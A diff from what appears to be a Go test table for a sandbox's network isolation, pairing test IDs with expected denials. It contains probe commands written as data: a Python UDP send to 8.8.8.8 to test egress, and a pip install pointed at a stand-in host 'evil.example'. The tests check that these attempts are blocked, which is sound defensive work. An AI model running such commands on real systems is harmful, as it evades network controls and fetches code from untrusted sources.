@@ -20,14 +20,17 @@ var networks = map[string]verdict{
 	"T3-250": denied(``),
 	"T3-252": denied(``),
 	"T3-253": redirected,
-	"T3-255": and(denied(``), python3(`import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"\0" * 12, ("8.8.8.8", 53))`, `Network is unreachable`)),
+	"T3-255": and(denied(``),
+		python3(`import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"\0" * 12, ("8.8.8.8", 53))`,
+			`Network is unreachable`)),
 	"T3-256": denied(``),
 	"T3-257": and(denied(``), denied(``).with("-6 ", "")), // the proxy itself is at an IPv4 address
 	"T3-259": fails(`PermissionError`),
 	"T3-260": fails(`PermissionError`),
 	"T3-261": fails(`Network is unreachable`),
 	"T3-262": and(denied(``), python3(proxied, `HTTP/1.1 4\d\d`)),
-	"T3-265": and(denied(`ERROR`), denied(`ERROR`).with("--index-url", "--trusted-host evil.example --index-url"), then(`! pip show x 2>/dev/null`)),
+	"T3-265": and(denied(`ERROR`), denied(`ERROR`).with("--index-url", "--trusted-host evil.example --index-url"),
+		then(`! pip show x 2>/dev/null`)),
 }
 
 // proxied is what the attack says by a program that the image does not have.
